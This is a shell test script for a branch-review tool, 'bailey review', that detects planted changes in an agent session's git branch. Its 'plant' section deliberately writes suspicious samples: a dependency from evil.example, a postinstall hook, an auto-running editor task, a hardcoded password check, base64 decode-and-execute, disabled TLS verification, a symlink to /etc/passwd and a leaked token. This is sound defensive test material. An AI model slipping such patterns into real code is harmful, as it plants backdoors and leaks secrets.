# bailey review shows what a session's branch brings and finds what is planted in it, each kind with file and line; a
# branch with plain work has nothing high. Secrets show in no output. It works while the session runs, after its end and
# after its supervisor was killed; --exit-code, --severity, --json and --sarif do what they say.
source "$SUPPORT/lib.sh"
r=$(repo project)
printf '[[path]]\nid = "money"\nseverity = "critical"\nwhy = "It moves money."\npaths = ["billing/"]\n' >"$r/.bailey-review.toml"
mkdir "$r/tests"
printf 'def test_a():\n    assert f() == 1\n    assert g() == 2\n' >"$r/tests/test_a.py"
git -C "$r" add -A
git -C "$r" commit -qm 'rules and tests'

# Control: plain work.
yard "$r" -b plain --name plain -- sh -c '
  printf "def add(a, b):\n    return a + b\n" >add.py
  printf "def test_add():\n    assert add(1, 2) == 3\n" >tests/test_add.py
  git add -A; git commit -qm "add, with a test"'
expect_status 0 bailey review shell-plain --exit-code
assert_contains "$OUT" 'shell-plain: 1 commit, 2 files changed, +4 -0'
assert_contains "$OUT" 'add, with a test'
expect_status 0 bailey review shell-plain --exit-code --severity notice
assert_contains "$OUT" 'No findings'

# Everything that an attacker might plant. The token is put together here, so that this file holds none.
token=ghp_$(printf 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5')
cat >"$T/plant" <<'PLANT'
set -e
mkdir -p .github/workflows .vscode .claude src billing deep/er
printf 'on: push\n' >.github/workflows/ci.yml
printf '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n' >.vscode/tasks.json
printf '{"hooks":{}}\n' >.claude/settings.json
printf 'use nix\n' >deep/er/.ENVRC
printf 'all:\n\tid\n' >Makefile
printf '{"scripts":{"postinstall":"node x.js"},"dependencies":{"b":"git+https://evil.example/b"}}\n' >package.json
printf 'x = 1\nif password == "letmein-9000":\n    ok()\n' >src/login.py
printf 'exec(base64.b64decode(p))\n' >src/run.py
printf 'requests.get(u, verify=False)\n' >src/get.py
printf 'if (x \342\200\256) {}\n' >src/bidi.c
printf '\177ELF\002\001\001\000\000\000' >src/tool
printf 'def test_a():\n    f()\n    assert g() == 2\n' >tests/test_a.py
printf 'x\n' >billing/pay.py
ln -s /etc/passwd src/passwd
chmod +x main.c
git add -A -f
git commit -qm 'innocent'
printf 'token = "%s"\n' "$TOKEN" >src/token.py
git add -A
git commit -qm 'oops'
git rm -q src/token.py
printf 'broken [\n' >.bailey-review.toml
git add -A
git commit -qm 'nothing to see here'
git push -q local HEAD
PLANT
yard "$r" -b evil --name evil --detach -- sleep 600
bailey exec shell-evil -e TOKEN="$token" -- sh -c "$(cat "$T/plant")"

# While it runs.
expect_status 1 bailey review shell-evil --exit-code --severity critical
assert_contains "$ERR" 'is running'
expect_status 0 bailey review shell-evil
assert_contains "$OUT" '3 commits'
bailey review shell-evil --json >"$T/review.json"
bailey review shell-evil --sarif >"$T/review.sarif"
for file in "$T/out" "$T/review.json" "$T/review.sarif"; do
  ! grep -qF "${token:6:20}" "$file" || fail "the secret shows in $file"
done
/usr/bin/python3 - "$T/review.json" "$T/review.sarif" <<'CHECK'
import json, sys
review = json.load(open(sys.argv[1]))
found = {(f["rule"], f["path"]): f for f in review["findings"]}
expected = {
    ("ci", ".github/workflows/ci.yml"): 0, ("editor", ".vscode/tasks.json"): 0, ("editor-runs", ".vscode/tasks.json"): 1,
    ("agent", ".claude/settings.json"): 0, ("directory-entry", "deep/er/.ENVRC"): 0, ("build", "Makefile"): 0,
    ("package-script", "package.json"): 0, ("dependency-source", "package.json"): 0, ("literal-login", "src/login.py"): 2,
    ("decode-and-execute", "src/run.py"): 1, ("verification-off", "src/get.py"): 1, ("bidi-text", "src/bidi.c"): 1,
    ("program", "src/tool"): 0, ("assertions-removed", "tests/test_a.py"): 0, ("link-outside", "src/passwd"): 0,
    ("executable-bit", "main.c"): 0, ("provider-token", "src/token.py"): 1, ("project/money", "billing/pay.py"): 0,
    ("agent", ".bailey-review.toml"): 0,
}
for key, line in expected.items():
    assert key in found, f"{key} is not among {sorted(found)}"
    assert found[key]["line"] == line, (key, found[key])
    assert found[key]["why"] and found[key]["look"], key
assert found[("provider-token", "src/token.py")]["place"] == "history"
assert found[("editor", ".vscode/tasks.json")]["auto_executing"] is True
assert review["commits"] == 3 and review["files"] == len(review["file_changes"])
sarif = json.load(open(sys.argv[2]))
assert sarif["version"] == "2.1.0"
run = sarif["runs"][0]
assert len(run["results"]) == len(review["findings"])
for result in run["results"]:
    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    assert result["level"] in ("error", "warning", "note") and result["message"]["text"]
CHECK

# A rule file of the user's adds, and switches off.
mkdir -p "$XDG_CONFIG_HOME/bailey"
printf 'off = ["program"]\n[[text]]\nid = "tab"\nseverity = "high"\nwhy = "House rule."\nfiles = ["Makefile"]\nany = ["id"]\n' \
  >"$XDG_CONFIG_HOME/bailey/review.toml"
expect_status 0 bailey review shell-evil --json
assert_contains "$OUT" 'user/tab'
refute_contains "$OUT" '"program"'
printf 'off = ["no-such"]\n' >"$XDG_CONFIG_HOME/bailey/review.toml"
expect_fails_with 2 'no-such' bailey review shell-evil
rm "$XDG_CONFIG_HOME/bailey/review.toml"

# After its supervisor was killed, and after its end.
kill -9 "$(supervisor shell-evil)"
wait_until 20 status_is shell-evil interrupted
expect_status 0 bailey review shell-evil
assert_contains "$ERR" 'interrupted'
assert_contains "$OUT" 'decode-and-execute'

expect_fails_with 2 'there is none' bailey review nobody
expect_fails_with 2 'hgih' bailey review shell-evil --severity hgih
expect_fails_with 2 'choose one' bailey review shell-evil --json --sarif
bailey rm -y --discard shell-evil
bailey rm -y shell-plain
